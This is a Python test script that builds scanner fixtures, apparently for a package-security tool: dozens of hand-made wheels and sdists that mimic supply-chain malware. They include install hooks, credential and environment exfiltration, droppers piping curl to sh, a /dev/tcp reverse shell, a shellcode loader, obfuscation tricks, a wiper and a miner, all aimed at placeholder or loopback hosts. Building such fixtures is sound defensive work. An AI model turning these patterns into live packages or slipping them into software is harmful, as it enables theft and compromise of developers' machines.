"""Build small test packages by hand (no network, no build tools): benign and malicious.

Malicious payloads are inert: they name 127.0.0.1 or example.invalid and are never run.

    python scripts/make_test_packages.py OUTDIR
"""

# ruff: noqa: E501 -- the test packages' sources are written out verbatim, one line each
from __future__ import annotations

import argparse
import base64
import hashlib
import io
import tarfile
import zipfile
from collections.abc import Mapping
from pathlib import Path


def wheel(
    name: str,
    version: str,
    files: dict[str, str | bytes],
    *,
    summary: str = "A test package",
    record: bool = True,
    tamper: str = "",
    requires: str = "",
) -> bytes:
    """A wheel with METADATA, WHEEL and a correct RECORD (unless told otherwise)."""
    info = f"{name}-{version}.dist-info"
    contents = {path: t if isinstance(t, bytes) else t.encode() for path, t in files.items()}
    contents[f"{info}/METADATA"] = (
        f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"
        + (f"Summary: {summary}\n" if summary else "")
        + requires
    ).encode()
    contents[f"{info}/WHEEL"] = (
        b"Wheel-Version: 1.0\nGenerator: airlock-tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    )
    lines = []
    for path, data in contents.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        lines.append(f"{path},sha256={digest},{len(data)}")
    if tamper:
        contents[tamper] = contents[tamper] + b"\n# changed after signing\n"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for path, data in contents.items():
            archive.writestr(path, data)
        if record:
            archive.writestr(f"{info}/RECORD", "\n".join([*lines, f"{info}/RECORD,,"]) + "\n")
    return buffer.getvalue()


def sdist(
    name: str, version: str, files: Mapping[str, str | bytes], *, extra_metadata: str = ""
) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        root = f"{name}-{version}"
        pkg_info = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nSummary: test\n"
        pkg_info += extra_metadata
        for path, text in {"PKG-INFO": pkg_info, **files}.items():
            data = text if isinstance(text, bytes) else text.encode()
            member = tarfile.TarInfo(f"{root}/{path}")
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
    return buffer.getvalue()


PAYLOAD = base64.b64encode(b"print('inert')").decode()


# The smallest shape of a Windows program: an MZ header pointing at a PE signature (inert).
TINY_PE = b"MZ" + bytes(0x3A) + (0x40).to_bytes(4, "little") + b"PE\x00\x00" + bytes(64)


def utf7_all(text: str) -> str:
    """``text`` in UTF-7 with every character in one base64 run (no word left readable)."""
    return "+" + base64.b64encode(text.encode("utf-16-be")).decode().rstrip("=") + "-"


# Sends the environment to an unreachable host: weighs only when it runs on its own.
LEAK_FN = "import os, urllib.request\n\n\ndef leak():\n    urllib.request.urlopen('http://example.invalid/?' + os.environ['HOME'])\n"
MALICIOUS: dict[str, tuple[str, bytes]] = {
    "obfuscated-exec": (
        "obf-0.1-py3-none-any.whl",
        wheel(
            "obf",
            "0.1",
            {"obf/__init__.py": f"import base64\nexec(base64.b64decode('{PAYLOAD}'))\n"},
        ),
    ),
    "process-call": (
        "spawn-0.1-py3-none-any.whl",
        wheel(
            "spawn", "0.1", {"spawn/__init__.py": "import subprocess\nsubprocess.run(['true'])\n"}
        ),
    ),
    "network-call": (
        "beacon-0.1-py3-none-any.whl",
        wheel(
            "beacon",
            "0.1",
            {
                "beacon/__init__.py": "import urllib.request\nurllib.request.urlopen('http://example.invalid/')\n"
            },
        ),
    ),
    "credential-read": (
        "keys-0.1-py3-none-any.whl",
        wheel(
            "keys",
            "0.1",
            {"keys/__init__.py": "def steal():\n    return open('/root/.ssh/id_ed25519').read()\n"},
        ),
    ),
    "cloud-metadata": (
        "meta-0.1-py3-none-any.whl",
        wheel(
            "meta",
            "0.1",
            {
                "meta/__init__.py": "import urllib.request\nURL = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'\n"
                "creds = urllib.request.urlopen(URL).read()\nurllib.request.urlopen('http://example.invalid/c', data=creds)\n"
            },
        ),
    ),
    "executable-download": (
        "fetch-0.1-py3-none-any.whl",
        wheel(
            "fetch",
            "0.1",
            {
                "fetch/__init__.py": "import subprocess, urllib.request\nURL = 'https://example.invalid/payload.exe'\n"
                "urllib.request.urlretrieve(URL, 'p.exe')\nsubprocess.Popen('p.exe')\n"
            },
        ),
    ),
    "pth-exec": (
        "hook-0.1-py3-none-any.whl",
        wheel(
            "hook",
            "0.1",
            {"hook.pth": "import os, _unshipped; os.getcwd()\n", "hook/__init__.py": ""},
        ),
    ),
    "clipboard": (
        "clip-0.1-py3-none-any.whl",
        wheel(
            "clip",
            "0.1",
            {
                "clip/__init__.py": "import pyperclip\ndef swap():\n    pyperclip.copy('bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq')\n"
            },
        ),
    ),
    "install-hook": (
        "hooked-0.1.tar.gz",
        sdist(
            "hooked",
            "0.1",
            {
                "setup.py": "from setuptools import setup\nfrom setuptools.command.install import install\n"
                "class Run(install):\n    def run(self):\n        import os\n        os.system('true')\n"
                "setup(name='hooked', cmdclass={'install': Run})\n"
            },
        ),
    ),
    "typosquat": (
        "reqeusts-2.0-py3-none-any.whl",
        wheel("reqeusts", "2.0", {"reqeusts/__init__.py": "VERSION = '2.0'\n"}),
    ),
    "record-mismatch": (
        "changed-0.1-py3-none-any.whl",
        wheel("changed", "0.1", {"changed/__init__.py": "X = 1\n"}, tamper="changed/__init__.py"),
    ),
    "suspicious-url": (
        "hookshot-0.1-py3-none-any.whl",
        wheel(
            "hookshot",
            "0.1",
            {
                "hookshot/__init__.py": "import os, requests\nURL = 'https://discord.com/api/webhooks/1/x'\n"
                "requests.post(URL, json={'content': os.getlogin()})\n"
            },
        ),
    ),
    # Issue 16: behaviour over tokens. Each payload is inert (127.0.0.1, example.invalid, `true`).
    "hidden-process": (
        "chrmap-0.1.tar.gz",
        sdist(
            "chrmap",
            "0.1",
            {
                "setup.py": "import sys\nfrom distutils.core import setup\n"
                "c = getattr(__builtins__, oct.__str__()[-3 << 0] + hex.__str__()[-1 << 2] + copyright.__str__()[4 << 0])\n"
                "if sys.argv[1] in [''.join(map(c, [105, 110, 115, 116, 97, 108, 108]))]:\n"
                "    getattr(__import__(''.join(map(c, [111, 115]))), 'sys' + 'tem')('true')\n"
                "setup(name='chrmap')\n",
                "chrmap/__init__.py": "",
            },
        ),
    ),
    "obfuscated-exec:lambda": (
        "lam-0.1-py3-none-any.whl",
        wheel(
            "lam",
            "0.1",
            {
                "lam/__init__.py": "d = lambda s: getattr(__import__('bas' + 'e64'), 'b64decode')(s)\n"
                f"z = __import__('zlib')\nexec(z.decompress(d('{base64.b64encode(__import__('zlib').compress(b'x = 1')).decode()}')))\n"
            },
        ),
    ),
    "exfiltration": (
        "envy-0.1-py3-none-any.whl",
        wheel(
            "envy",
            "0.1",
            {
                "envy/__init__.py": "import os, base64, requests\n\n\ndef report():\n"
                "    secret = open(os.path.expanduser('~/.env')).read() + os.environ.get('WALLET_KEY', '')\n"
                f"    host = bytes.fromhex('{b'http://127.0.0.1:9/c'.hex()}').decode()\n"
                "    requests.post(host, data={'k': secret})\n"
            },
        ),
    ),
    "off-screen-code": (
        "wide-0.1-py3-none-any.whl",
        wheel(
            "wide",
            "0.1",
            {"wide/__init__.py": "X = 1" + " " * 300 + ";__import__('os').getcwd()\n"},
        ),
    ),
    "pickle-exec": (
        "model-0.1-py3-none-any.whl",
        wheel(
            "model",
            "0.1",
            {
                "model/__init__.py": "",
                "model/weights.pkl": b"\x80\x02cposix\nsystem\nq\x00X\x04\x00\x00\x00trueq\x01\x85q\x02Rq\x03.",
            },
        ),
    ),
    "empty-package": (
        "placeholder-0.1.tar.gz",
        sdist(
            "placeholder",
            "0.1",
            {"setup.py": "from setuptools import setup\nsetup(name='placeholder')\n"},
        ),
    ),
    "dropper": (
        "esq-0.1.tar.gz",
        sdist(
            "esq",
            "0.1",
            {
                "setup.py": "import subprocess\nsubprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand dAByAHUAZQA=', shell=True)\n",
                "esq/__init__.py": "",
            },
        ),
    ),
    # Issue 16, behaviours seen in real malware (inert here: loopback, example.invalid).
    "dropper:download-write-run": (
        "fetchrun-0.1-py3-none-any.whl",
        wheel(
            "fetchrun",
            "0.1",
            {
                "fetchrun/__init__.py": "import os, requests\n\n\ndef update(name):\n"
                "    data = requests.get('https://example.invalid/' + name).content\n"
                "    with open(name, 'wb') as f:\n        f.write(data)\n"
                "    os.system(f'chmod +x {name} && ./{name}')\n"
            },
        ),
    ),
    "dropper:decoded-to-literal-path": (
        "dropexe-0.1-py3-none-any.whl",
        wheel(
            "dropexe",
            "0.1",
            {
                "dropexe/__init__.py": "import os, urllib.request\n\n\ndef go():\n"
                "    body = urllib.request.urlopen('https://example.invalid/x').read()\n"
                "    out = []\n    for b in body:\n        out.append(b ^ 7)\n"
                "    with open('C://tmp//tool.bin', 'wb') as f:\n        f.write(bytes(out))\n"
                "    os.system('start C://tmp//tool.bin')\n"
            },
        ),
    ),
    "exfiltration:file-to-bare-ip": (
        "uploader-0.1-py3-none-any.whl",
        wheel(
            "uploader",
            "0.1",
            {
                "uploader/__init__.py": "import httpx\nSINK = 'http://203.0.113.9:8000/v'\n\n\n"
                "async def check(path):\n    async with httpx.AsyncClient() as client:\n"
                "        with open(path, 'rb') as f:\n"
                "            await client.post(SINK, files={'f': (path, f)})\n"
            },
        ),
    ),
    "network-call:install-beacon": (
        "beacon-0.1.tar.gz",
        sdist(
            "beacon",
            "0.1",
            {
                "setup.py": "import urllib.request\nfrom setuptools import setup\n"
                "from setuptools.command.install import install\n\n\nclass Hook(install):\n"
                "    def run(self):\n        urllib.request.urlopen('https://webhook.site/inert')\n"
                "        install.run(self)\n\n\nsetup(name='beacon', cmdclass={'install': Hook})\n",
                "beacon/__init__.py": "",
            },
        ),
    ),
    "shell-spawn": (
        "shellout-0.1-py3-none-any.whl",
        wheel(
            "shellout",
            "0.1",
            {"shellout/__init__.py": "import subprocess\nsubprocess.call('/bin/sh', shell=True)\n"},
        ),
    ),
    "persistence:profile-write-at-install": (
        "persist-0.1.tar.gz",
        sdist(
            "persist",
            "0.1",
            {
                "setup.py": "import os\nfrom setuptools import setup\nhome = os.getenv('APPDATA')\n"
                "with open(home + '\\\\Extension\\\\bg.js', 'w+') as f:\n    f.write('inert')\n"
                "setup(name='persist')\n",
                "persist/__init__.py": "",
            },
        ),
    ),
    "stealer-kit": (
        "cookiejar-0.1.tar.gz",
        sdist(
            "cookiejar",
            "0.1",
            {
                "setup.py": "from setuptools import setup\nsetup(name='cookiejar')\n",
                # does not even parse, as in the wild: the imports and the URL still tell
                "cookiejar/__init__.py": "import browser_cookie3\n"
                "hook=https://discord.com/api/webhooks/1/inert\n",
            },
        ),
    ),
    "disguised-bytecode": (
        "cachey-0.1-py3-none-any.whl",
        wheel(
            "cachey",
            "0.1",
            {"cachey/__init__.py": "", "cachey/__pycache__/blob.pyc": bytes(range(64)) * 8},
        ),
    ),
    "native-exfiltration-endpoint": (
        "nat-0.1-cp311-cp311-linux_x86_64.whl",
        wheel(
            "nat",
            "0.1",
            {
                "nat/__init__.py": "",
                "nat/_core.so": b"\x7fELF\x00\x00https://discord.com/api/webhooks/1234/inert\x00",
            },
        ),
    ),
    "native-reverse-shell": (
        "rsh-0.1-cp311-cp311-linux_x86_64.whl",
        wheel(
            "rsh",
            "0.1",
            {
                "rsh/__init__.py": "",
                "rsh/_core.so": b"\x7fELF\x00\x00bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\x00",
            },
        ),
    ),
    "native-crypto-miner": (
        "mnr-0.1-cp311-cp311-linux_x86_64.whl",
        wheel(
            "mnr",
            "0.1",
            {
                "mnr/__init__.py": "",
                "mnr/_core.so": b"\x7fELF\x00\x00stratum+tcp://pool.example.invalid:3333\x00",
            },
        ),
    ),
    # A Windows stealer keeps its paths as UTF-16: the old ASCII strings scan never saw them.
    "native-credential-store": (
        "stl-0.1-cp311-cp311-win_amd64.whl",
        wheel(
            "stl",
            "0.1",
            {
                "stl/__init__.py": "",
                "stl/_core.pyd": b"MZ\x90\x00"
                + "\\Google\\Chrome\\User Data\\Default\\Login Data".encode("utf-16-le")
                + b"\x00\x00",
            },
        ),
    ),
    "native-packed-executable": (
        "upx-0.1-cp311-cp311-linux_x86_64.whl",
        wheel(
            "upx",
            "0.1",
            {
                "upx/__init__.py": "",
                "upx/_core.so": b"\x7fELF\x00\x00UPX0\x00\x00UPX1\x00UPX!\x0d\x00",
            },
        ),
    ),
    # Issue 16, chains across files: import or install time reaches a sink through a
    # function of another module of the same package.
    "exfiltration:environment-across-files": (
        "telemetry-0.1-py3-none-any.whl",
        wheel(
            "telemetry",
            "0.1",
            {
                "telemetry/__init__.py": "from .report import send\n\nsend()\n",
                "telemetry/report.py": "import json, os, urllib.request\n\n\ndef send():\n    body = json.dumps(dict(os.environ)).encode()\n    urllib.request.urlopen('http://127.0.0.1:9/c', body)\n",
            },
        ),
    ),
    "dropper:setup-calls-package-module": (
        "buildhelp-0.1.tar.gz",
        sdist(
            "buildhelp",
            "0.1",
            {
                "setup.py": "from setuptools import setup\nfrom buildhelp.steps import prepare\n\nprepare()\nsetup(name='buildhelp', version='0.1')\n",
                "buildhelp/__init__.py": "",
                "buildhelp/steps.py": "import subprocess\n\n\ndef prepare():\n    subprocess.call('curl -s http://127.0.0.1:9/x -o /tmp/x', shell=True)\n",
            },
        ),
    ),
    "dropper:relative-module-on-import": (
        "relimp-0.1-py3-none-any.whl",
        wheel(
            "relimp",
            "0.1",
            {
                "relimp/__init__.py": "from . import _boot\n\n_boot.start('http://127.0.0.1:9/p')\n",
                "relimp/_boot.py": "import subprocess\n\n\ndef start(url):\n    subprocess.Popen(['python', '-c', 'print(1)', url])\n",
            },
        ),
    ),
    "dropper:star-imported-call-on-import": (
        "starx-0.1-py3-none-any.whl",
        wheel(
            "starx",
            "0.1",
            {
                "starx/__init__.py": "from .impl import *\n\nstart()\n",
                "starx/impl.py": "import subprocess\n\n\ndef start():\n    subprocess.Popen(['python', '-c', 'import os; os.system(\"id\")'])\n",
            },
        ),
    ),
    # A .pth that calls its own package's function: the function runs at every start-up.
    "dropper:pth-calls-own-module": (
        "pthrun-0.1-py3-none-any.whl",
        wheel(
            "pthrun",
            "0.1",
            {
                "pthrun.pth": "import pthrun; pthrun.run()\n",
                "pthrun/__init__.py": "import subprocess\n\n\ndef run():\n    subprocess.Popen(['python', '-c', 'import os; os.system(\"id\")'])\n",
            },
        ),
    ),
    # Sinks named only by an alias or by a string built on the spot (prefilter words absent).
    "dropper:aliased-sink-in-function": (
        "aliased-0.1-py3-none-any.whl",
        wheel(
            "aliased",
            "0.1",
            {
                "aliased/__init__.py": "from os import system as s1\n\n\ndef update():\n    s1('curl -s http://127.0.0.1:9/u | sh')\n",
            },
        ),
    ),
    "hidden-process:built-attribute-name": (
        "builtname-0.1-py3-none-any.whl",
        wheel(
            "builtname",
            "0.1",
            {"builtname/__init__.py": "import os as o\n\ngetattr(o, 'sys' + 'tem')('id')\n"},
        ),
    ),
    # A top-level import of a stdlib look-alike the package neither ships nor declares.
    "stdlib-lookalike-import": (
        "sockreq-0.1-py3-none-any.whl",
        wheel(
            "sockreq",
            "0.1",
            {"sockreq/__init__.py": "import sockets\n\n\ndef get(url):\n    return url\n"},
        ),
    ),
    # A project shipping another project's import package, named by its own homepage.
    "impostor-package": (
        "acme-upgrade-1.0.tar.gz",
        sdist(
            "acme-upgrade",
            "1.0",
            {"acme_widgets/__init__.py": "def widget():\n    return 1\n"},
            extra_metadata="Project-URL: Homepage, https://github.com/example/acme-widgets\n",
        ),
    ),
    # A raw socket carries a private key away; setup.py installs packages itself; declared
    # dependencies that are fetched from a URL or imitate a popular project.
    "exfiltration:raw-socket": (
        "rawsock-0.1-py3-none-any.whl",
        wheel(
            "rawsock",
            "0.1",
            {
                "rawsock/__init__.py": "import socket\n\n\ndef beam():\n    key = open('/home/u/.ssh/id_rsa').read()\n    s = socket.socket()\n    s.connect(('127.0.0.1', 9))\n    s.sendall(key.encode())\n",
            },
        ),
    ),
    "install-time-pip": (
        "pipper-0.1.tar.gz",
        sdist(
            "pipper",
            "0.1",
            {
                "setup.py": "import subprocess, sys\nfrom setuptools import setup\n\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'helperlib'])\nsetup(name='pipper', version='0.1')\n",
                "pipper/__init__.py": "def hello():\n    return 1\n",
            },
        ),
    ),
    "url-dependency": (
        "urldep-0.1-py3-none-any.whl",
        wheel(
            "urldep",
            "0.1",
            {"urldep/__init__.py": "def hello():\n    return 1\n"},
            requires="Requires-Dist: helper @ https://example.invalid/helper-1.0.tar.gz\n",
        ),
    ),
    "off-screen-code:mixed-blanks": (
        "offmix-0.1-py3-none-any.whl",
        wheel(
            "offmix",
            "0.1",
            {"offmix/__init__.py": "x = 1" + "  \t   \t\t  " * 20 + "import os;os.getcwd()\n"},
        ),
    ),
    # A look-alike whose setup.py installs the project it imitates, so the victim sees it work.
    "squatting-install": (
        "widgetz-0.1.tar.gz",
        sdist(
            "widgetz",
            "0.1",
            {
                "setup.py": "from setuptools import setup\nfrom pip._internal import main\n\nmain(['install', 'widgets'])\nsetup(name='widgetz', version='0.1')\n",
                "widgetz/__init__.py": "def hello():\n    return 1\n",
            },
        ),
    ),
    # No code of its own, and setup.py calls out when installed: a placeholder that acts.
    "pretender-acts": (
        "placeholder-0.1.tar.gz",
        sdist(
            "placeholder",
            "0.1",
            {
                "setup.py": "import urllib.request\nfrom setuptools import setup\n\nurllib.request.urlopen('http://example.invalid/installed')\nsetup(name='placeholder', version='0.1')\n",
            },
        ),
    ),
    # A payload in a .pyw file (Python run without a console), and a URL dependency
    # declared only in setup.py's install_requires.
    "obfuscated-exec:pyw-member": (
        "quietw-0.1-py3-none-any.whl",
        wheel(
            "quietw",
            "0.1",
            {
                "quietw/__init__.py": "",
                "quietw/agent.pyw": f"import base64\nexec(base64.b64decode('{PAYLOAD}'))\n",
            },
        ),
    ),
    "url-dependency:install-requires": (
        "depsq-0.1.tar.gz",
        sdist(
            "depsq",
            "0.1",
            {
                "setup.py": "from setuptools import setup\nsetup(name='depsq', version='0.1', install_requires=['numpy', 'helper @ https://example.invalid/helper-1.0.tar.gz'])\n",
                "depsq/__init__.py": "def hello():\n    return 1\n",
            },
        ),
    ),
    # Host data sent from a thread started on import, and a DNS look-up carrying it.
    "exfiltration:thread-on-import": (
        "threadx-0.1-py3-none-any.whl",
        wheel(
            "threadx",
            "0.1",
            {
                "threadx/__init__.py": "import platform, threading, urllib.request\n\n\ndef beacon():\n    urllib.request.urlopen('http://example.invalid/b?h=' + platform.node())\n\n\nthreading.Thread(target=beacon, daemon=True).start()\n",
            },
        ),
    ),
    "exfiltration:dns-resolver": (
        "dnsx-0.1-py3-none-any.whl",
        wheel(
            "dnsx",
            "0.1",
            {
                "dnsx/__init__.py": "import getpass\nimport dns.resolver\n\ndns.resolver.resolve(getpass.getuser() + '.leak.example.invalid', 'A')\n",
            },
        ),
    ),
    # Issue 16, code reached with no call and hooks other than setup.py (ADR 0029 follow-up):
    # each sends the environment to a host, which only weighs when it runs on its own.
    "exfiltration:atexit-hook": (
        "byebye-0.1-py3-none-any.whl",
        wheel(
            "byebye",
            "0.1",
            {
                "byebye/__init__.py": f"import atexit\nfrom atexit import register as later\n{LEAK_FN}\nlater(lambda: leak())\n"
            },
        ),
    ),
    "exfiltration:decorator-runs-function": (
        "decor-0.1-py3-none-any.whl",
        wheel(
            "decor",
            "0.1",
            {
                "decor/__init__.py": "import os, urllib.request\n\n\ndef plugin(name):\n    def wrap(f):\n        f()\n        return f\n    return wrap\n\n\n@plugin('x')\ndef leak():\n    urllib.request.urlopen('http://example.invalid/?' + os.environ['HOME'])\n"
            },
        ),
    ),
    "exfiltration:init-subclass": (
        "subcls-0.1-py3-none-any.whl",
        wheel(
            "subcls",
            "0.1",
            {
                "subcls/__init__.py": "import os, urllib.request\n\n\nclass Base:\n    def __init_subclass__(cls, **kw):\n        urllib.request.urlopen('http://example.invalid/?' + os.environ['HOME'])\n\n\nclass Middle(Base):\n    pass\n\n\nclass Leaf(Middle):\n    pass\n"
            },
        ),
    ),
    "exfiltration:metaclass": (
        "metac-0.1-py3-none-any.whl",
        wheel(
            "metac",
            "0.1",
            {
                "metac/__init__.py": "import os, urllib.request\n\n\nclass Meta(type):\n    def __init__(cls, name, bases, ns):\n        urllib.request.urlopen('http://example.invalid/?' + os.environ['HOME'])\n\n\nclass Model(metaclass=Meta):\n    pass\n"
            },
        ),
    ),
    "obfuscated-exec:decoded-module-name": (
        "modname-0.1-py3-none-any.whl",
        wheel(
            "modname",
            "0.1",
            {
                "modname/__init__.py": "import base64, importlib\n\n\ndef load(blob):\n    return importlib.import_module(base64.b64decode(blob).decode())\n"
            },
        ),
    ),
    "obfuscated-exec:steganography": (
        "pixels-0.1-py3-none-any.whl",
        wheel(
            "pixels",
            "0.1",
            {
                "pixels/__init__.py": "from stegano import lsb\n\n\ndef show():\n    exec(lsb.reveal('pixels/logo.png'))\n"
            },
        ),
    ),
    "shellcode-loader": (
        "memrun-0.1-py3-none-any.whl",
        wheel(
            "memrun",
            "0.1",
            {
                "memrun/__init__.py": "import ctypes\n\n\ndef run(buf):\n    k = ctypes.WinDLL('kernel32.dll')\n    p = getattr(k, 'VirtualAlloc')(0, len(buf), 0x3000, 0x40)\n    k.RtlMoveMemory(p, buf, len(buf))\n    k.CreateThread(0, 0, p, 0, 0, 0)\n"
            },
        ),
    ),
    "silent-process": (
        "quietrun-0.1-py3-none-any.whl",
        wheel(
            "quietrun",
            "0.1",
            {
                "quietrun/__init__.py": "import subprocess\n\nsubprocess.Popen(['pythonw', '-m', 'quietrun.agent'], creationflags=subprocess.CREATE_NO_WINDOW | subprocess.DETACHED_PROCESS)\n"
            },
        ),
    ),
    "disguised-identifier": (
        "fancy-0.1-py3-none-any.whl",
        wheel(
            "fancy",
            "0.1",
            {
                "fancy/__init__.py": "import os\nos.\U0001d600\U0001d606\U0001d600\U0001d601\U0001d5f2\U0001d5fa('id')\n"
            },
        ),
    ),
    "coding-trick:utf-7": (
        "seven-0.1-py3-none-any.whl",
        wheel(
            "seven",
            "0.1",
            {
                "seven/__init__.py": "# vim: set fileencoding=utf-7 :\n"
                + utf7_all("import os\nos.system('curl http://127.0.0.1/p | sh')\n")
            },
        ),
    ),
    "bidi-control": (
        "trojan-0.1-py3-none-any.whl",
        wheel(
            "trojan",
            "0.1",
            {
                "trojan/__init__.py": "def allowed(user):\n    role = 'user\u202e \u2066# admin\u2069 \u2066'\n    return role == 'admin'\n"
            },
        ),
    ),
    "exfiltration:in-tree-build-backend": (
        "backy-0.1.tar.gz",
        sdist(
            "backy",
            "0.1",
            {
                "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "_build.hooks:backend"\nbackend-path = ["tools"]\n',
                "tools/_build/hooks.py": f"{LEAK_FN}\n\ndef build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n    leak()\n    return 'backy-0.1-py3-none-any.whl'\n",
                "backy/__init__.py": "",
            },
        ),
    ),
    "exfiltration:setup-cfg-cmdclass": (
        "cfgcmd-0.1.tar.gz",
        sdist(
            "cfgcmd",
            "0.1",
            {
                "setup.cfg": "[metadata]\nname = cfgcmd\n\n[options]\npackages = cfgcmd\ncmdclass =\n    install = cfgcmd.commands.Install\n",
                "setup.py": "from setuptools import setup\nsetup()\n",
                "cfgcmd/__init__.py": "",
                "cfgcmd/commands.py": f"from setuptools.command.install import install\n{LEAK_FN}\n\nclass Install(install):\n    def run(self):\n        leak()\n        install.run(self)\n",
            },
        ),
    ),
    "command-shadowing": (
        "handy-0.1-py3-none-any.whl",
        wheel(
            "handy",
            "0.1",
            {
                "handy/__init__.py": "def main():\n    return 0\n",
                "handy-0.1.dist-info/entry_points.txt": "[console_scripts]\nhandy = handy:main\nsudo = handy:main\n",
            },
        ),
    ),
    "startup-module": (
        "startup-0.1-py3-none-any.whl",
        wheel(
            "startup", "0.1", {"sitecustomize.py": "import startup\n", "startup/__init__.py": ""}
        ),
    ),
    "shady-endpoint": (
        "linky-0.1-py3-none-any.whl",
        wheel(
            "linky",
            "0.1",
            {
                "linky/__init__.py": "import requests\n\n\ndef update():\n    return requests.get('https://bit.ly/example-invalid').content\n"
            },
        ),
    ),
    "exfiltration:shady-host-when-called": (
        "tellme-0.1-py3-none-any.whl",
        wheel(
            "tellme",
            "0.1",
            {
                "tellme/__init__.py": "import os, requests\n\n\ndef report():\n    requests.post('https://example.requestbin.net/r', json=dict(os.environ))\n"
            },
        ),
    ),
    "disguised-executable": (
        "iconic-0.1-py3-none-any.whl",
        wheel("iconic", "0.1", {"iconic/__init__.py": "", "iconic/logo.png": TINY_PE}),
    ),
    "dropper:windows-shell-execute": (
        "winopen-0.1-py3-none-any.whl",
        wheel(
            "winopen",
            "0.1",
            {
                "winopen/__init__.py": "import ctypes\nctypes.windll.shell32.ShellExecuteW(None, 'open', 'cmd.exe', '/c whoami', None, 0)\n"
            },
        ),
    ),
    "lookalike-import": (
        "httptools2-0.1-py3-none-any.whl",
        wheel(
            "httptools2",
            "0.1",
            {
                "httptools2/__init__.py": "import reqeusts\n\n\ndef get(url):\n    return reqeusts.get(url)\n"
            },
        ),
    ),
    # A wiper (a Windows drive: the command does not exist where the tests run) and a miner.
    "destruction": (
        "cleaner-0.1-py3-none-any.whl",
        wheel(
            "cleaner",
            "0.1",
            {
                "cleaner/__init__.py": "import subprocess\nsubprocess.call('rd /s /q Z:\\\\', shell=True)\n"
            },
        ),
    ),
    "cryptominer": (
        "hashfast-0.1-py3-none-any.whl",
        wheel(
            "hashfast",
            "0.1",
            {
                "hashfast/__init__.py": "import subprocess\n\n\ndef start():\n    subprocess.Popen(['./worker', '-o', 'stratum+tcp://127.0.0.1:3333', '--donate-level', '0'])\n"
            },
        ),
    ),
    "introspection-gadget": (
        "gadget-0.1-py3-none-any.whl",
        wheel(
            "gadget",
            "0.1",
            {
                "gadget/__init__.py": "RUN = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['sys' + 'tem']\n"
            },
        ),
    ),
    "script-dropper": (
        "setupkit-0.1-py3-none-any.whl",
        wheel(
            "setupkit",
            "0.1",
            {
                "setupkit/__init__.py": "",
                "setupkit/bin/update.sh": "#!/bin/sh\ncurl -s http://127.0.0.1/p | sh\n",
            },
        ),
    ),
    # ADR 0032: setup.py or a module runs the text of another member of the archive as code.
    "file-exec": (
        "notes-0.1.tar.gz",
        sdist(
            "notes",
            "0.1",
            {
                "setup.py": "from setuptools import setup\n\nexec(open('notes/changes.txt').read())\nsetup(name='notes', version='0.1')\n",
                "notes/__init__.py": "",
                "notes/changes.txt": "import os, urllib.request\nurllib.request.urlopen('http://127.0.0.1:9/c', repr(dict(os.environ)).encode())\n",
            },
        ),
    ),
    "file-exec:path-built-and-read-through-with": (
        "notes2-0.1.tar.gz",
        sdist(
            "notes2",
            "0.1",
            {
                "setup.py": "import os\nfrom setuptools import setup\n\nhere = os.path.abspath(os.path.dirname(__file__))\nwith open(os.path.join(here, 'notes2', 'cha' + 'nges')) as f:\n    code = compile(f.read(), 'changes', 'exec')\nexec(code)\nsetup(name='notes2', version='0.1')\n",
                "notes2/__init__.py": "",
                "notes2/changes": "import subprocess\nsubprocess.Popen('curl -s http://127.0.0.1:9/x | sh', shell=True)\n",
            },
        ),
    ),
    "file-exec:module-runs-data-on-import": (
        "blobby-0.1-py3-none-any.whl",
        wheel(
            "blobby",
            "0.1",
            {
                "blobby/__init__.py": "import runpy\nfrom pathlib import Path\n\nrunpy.run_path(str(Path(__file__).parent / 'data' / 'table.dat'))\n",
                "blobby/data/table.dat": "import os, urllib.request\nurllib.request.urlopen('http://127.0.0.1:9/c', repr(dict(os.environ)).encode())\n",
            },
        ),
    ),
    # Issue 16, ADR 0034: hooks in the import system, chains through helper modules,
    # look-alike dependencies and GuardDog classes the flow pass missed. All inert.
    "import-hook:meta-path-finder": (
        "finder-0.1-py3-none-any.whl",
        wheel(
            "finder",
            "0.1",
            {
                "finder/__init__.py": "import sys\nimport subprocess\n\n\nclass Finder:\n    def find_spec(self, name, path, target=None):\n        subprocess.Popen(['true', name])\n        return None\n\n\n_finder = Finder()\nsys.meta_path.insert(0, _finder)\n"
            },
        ),
    ),
    "import-hook:builtins-import": (
        "patched-0.1-py3-none-any.whl",
        wheel(
            "patched",
            "0.1",
            {
                "patched/__init__.py": "import builtins\nimport urllib.request\n\n_real = builtins.__import__\n\n\ndef _import(name, *args, **kwargs):\n    urllib.request.urlopen('http://example.invalid/?m=' + name)\n    return _real(name, *args, **kwargs)\n\n\nbuiltins.__import__ = _import\n"
            },
        ),
    ),
    "exfiltration:helpers-called-from-a-module": (
        "relay-0.1-py3-none-any.whl",
        wheel(
            "relay",
            "0.1",
            {
                "relay/__init__.py": "from . import core\n",
                "relay/core.py": "from .config import credentials\nfrom .transport import post\n\npost(credentials())\n",
                "relay/config.py": "import os\n\n\ndef credentials():\n    return open(os.path.expanduser('~/.aws/credentials')).read()\n",
                "relay/transport.py": "import urllib.request\n\n\ndef post(data):\n    urllib.request.urlopen('http://example.invalid/', data=data.encode())\n",
            },
        ),
    ),
    "exfiltration:two-hops": (
        "hops-0.1-py3-none-any.whl",
        wheel(
            "hops",
            "0.1",
            {
                "hops/__init__.py": "from .main import start\n\nstart()\n",
                "hops/main.py": "from .config import credentials\nfrom .transport import post\n\n\ndef start():\n    post(credentials())\n",
                "hops/config.py": "import os\n\n\ndef credentials():\n    return open(os.path.expanduser('~/.aws/credentials')).read()\n",
